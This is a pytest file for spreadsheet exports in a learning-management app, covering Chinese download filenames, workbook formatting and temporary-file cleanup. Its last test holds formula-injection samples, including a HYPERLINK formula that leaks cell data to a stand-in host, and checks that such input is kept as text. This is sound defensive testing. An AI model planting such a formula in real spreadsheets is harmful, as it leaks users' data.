"""Spreadsheet exports: the download response and the workbook write_xlsx() builds."""
import csv
import io
from datetime import date, timedelta
from decimal import Decimal
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook
from werkzeug.http import parse_options_header

from lms.tabular import download, write_csv, write_xlsx

from .conftest import login

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _disposition(response) -> dict[str, str]:
    """The parameters of a Content-Disposition header, filename* kept undecoded."""
    value = response.headers["Content-Disposition"]
    kind, *params = (p.strip() for p in value.split(";"))
    assert kind == "attachment"
    return dict(p.split("=", 1) for p in params)


# --- download() -------------------------------------------------------------------------------------

def test_a_chinese_file_name_goes_in_filename_star_with_an_ascii_fallback():
    name = "统计-安澜市 青禾区-2026-11-23.xlsx"
    r = download(b"PK\x03\x04data", name)
    assert r.mimetype == XLSX and r.get_data() == b"PK\x03\x04data"
    header = r.headers["Content-Disposition"]
    assert header.isascii()  # HTTP headers are Latin-1: the Chinese name travels percent-encoded
    params = _disposition(r)
    charset, _lang, encoded = params["filename*"].split("'", 2)
    assert charset == "UTF-8" and unquote(encoded, encoding="utf-8") == name
    assert params["filename"] == "2026-11-23.xlsx"  # what a client without RFC 5987 support saves
    # and the way a standard parser (werkzeug's) reads it: filename* wins
    assert parse_options_header(header) == ("attachment", {"filename": name})


def test_an_all_chinese_name_falls_back_to_download_and_a_csv_is_typed_as_csv():
    r = download("名单".encode("utf-8-sig"), "名单.csv")
    assert r.mimetype == "text/csv" and r.mimetype_params == {"charset": "utf-8"}
    params = _disposition(r)
    assert params["filename"] == "download.csv"
    assert unquote(params["filename*"].removeprefix("UTF-8''")) == "名单.csv"


def test_an_ascii_name_is_sent_as_before():
    assert download(b"", "org-units.xlsx").headers["Content-Disposition"] == "attachment; filename=org-units.xlsx"
    assert download(b"", "accounts-2026-01-01.csv").headers["Content-Disposition"] == \
        "attachment; filename=accounts-2026-01-01.csv"
    quoted = download(b"", 'a "b".csv').headers["Content-Disposition"]
    assert quoted == 'attachment; filename="a \\"b\\".csv"'
    assert parse_options_header(quoted)[1]["filename"] == 'a "b".csv'


def test_only_spreadsheets_are_sent():
    with pytest.raises(ValueError):
        download(b"", "notes.txt")


def test_a_view_sends_its_export_through_download(client):
    login(client, "admin")
    r = client.get("/orgs/export.xlsx")
    assert r.status_code == 200 and r.mimetype == XLSX
    assert r.headers["Content-Disposition"] == "attachment; filename=org-units.xlsx"
    assert load_workbook(io.BytesIO(r.data)).active["A1"].font.b


# --- write_xlsx() -----------------------------------------------------------------------------------

def _rows(n):
    start = date(2026, 1, 1)
    for i in range(n):
        yield [i + 1, f"社区工作者{i + 1}", Decimal("1.5") * i, 0.25 * (i % 5), None if i % 3 == 0 else i,
               start + timedelta(days=i)]


def test_write_xlsx_takes_a_generator_and_reads_back_the_same():
    headers = ["序号", "姓名", "学时", "出勤率", "场次", "日期"]
    formats = {1: "#,##0", 3: "0.0", 4: "0.0%", 5: "#,##0"}
    data = write_xlsx("工作者名单", headers, _rows(250), widths=[8, 14, 10, 10, 8, 12], number_formats=formats,
                      notes=("说明", [["口径", "每人每年"], ["范围", "全市"]]))
    wb = load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["工作者名单", "说明"]
    ws = wb.worksheets[0]
    assert wb.active.title == "工作者名单"
    rows = list(ws.iter_rows(values_only=True))
    assert list(rows[0]) == headers
    expected = [[r[0], r[1], float(r[2]), r[3], r[4], r[5]] for r in _rows(250)]
    got = [[*row[:5], row[5].date()] for row in rows[1:]]  # openpyxl reads dates back as datetimes
    assert got == expected
    # bold, filled header; frozen below it; the widths given
    for cell in ws[1]:
        assert cell.font.b and cell.fill.fill_type == "solid" and cell.fill.fgColor.rgb == "00DDEBF7"
    assert ws.freeze_panes == "A2"
    assert [ws.column_dimensions[c].width for c in "ABCDEF"] == [8, 14, 10, 10, 8, 12]
    # every data cell of a formatted column carries its format, an empty one too; the others are left alone
    for row in ws.iter_rows(min_row=2):
        assert [c.number_format for c in row[:5]] == ["#,##0", "General", "0.0", "0.0%", "#,##0"]
        assert row[5].is_date and row[5].number_format == "yyyy-mm-dd"
        assert not row[0].font.b
    assert ws.cell(row=2, column=5).value is None and ws.cell(row=2, column=5).number_format == "#,##0"
    notes = wb.worksheets[1]
    assert [list(r) for r in notes.iter_rows(values_only=True)] == [["口径", "每人每年"], ["范围", "全市"]]
    assert notes.column_dimensions["B"].width == 90


def test_a_header_only_template_has_one_row():
    wb = load_workbook(io.BytesIO(write_xlsx("模板" * 20, ["a", "b"], iter(()))))
    ws = wb.worksheets[0]
    assert ws.title == ("模板" * 20)[:31] and ws.max_row == 1 and ws.freeze_panes == "A2"
    assert [ws.column_dimensions[c].width for c in "AB"] == [16, 16]


def test_write_csv_takes_a_generator():
    data = write_csv(["姓名", "学时"], ([f"甲{i}", i] for i in range(3)))
    assert data.startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig")))) == [["姓名", "学时"], ["甲0", "0"], ["甲1", "1"],
                                                                       ["甲2", "2"]]


def test_a_failed_export_leaves_no_temporary_file():
    from openpyxl.worksheet import _writer

    def broken():
        yield [1, "甲"]
        raise RuntimeError("the database went away")

    before = list(_writer.ALL_TEMP_FILES)
    with pytest.raises(RuntimeError):
        write_xlsx("名单", ["序号", "姓名"], broken(), number_formats={1: "#,##0"}, notes=("说明", [["a", "b"]]))
    with pytest.raises(ValueError):
        write_xlsx("名单", ["序号", "姓名"], [[1, object()]])
    assert _writer.ALL_TEMP_FILES == before  # write-only sheets stream to temporary files: all removed


def test_text_that_looks_like_a_formula_stays_text():
    """A name or note typed by a user must never run as a formula in the office's spreadsheet."""
    evil = ['=HYPERLINK("http://x.example/?"&A1,"点我")', "+1+2", "-3", "@SUM(A1)", "普通文字"]
    ws = load_workbook(io.BytesIO(write_xlsx("表", ["备注"], [[v] for v in evil]))).active
    cells = [ws.cell(row=i, column=1) for i in range(2, 2 + len(evil))]
    assert [c.value for c in cells] == evil and all(c.data_type == "s" for c in cells)
    rows = list(csv.reader(io.StringIO(write_csv(["备注", "数"], [[v, -3] for v in evil]).decode("utf-8-sig"))))
    assert [r[0] for r in rows[1:]] == ["'" + v for v in evil[:4]] + ["普通文字"]
    assert all(r[1] == "-3" for r in rows[1:])  # numbers are numbers, not text
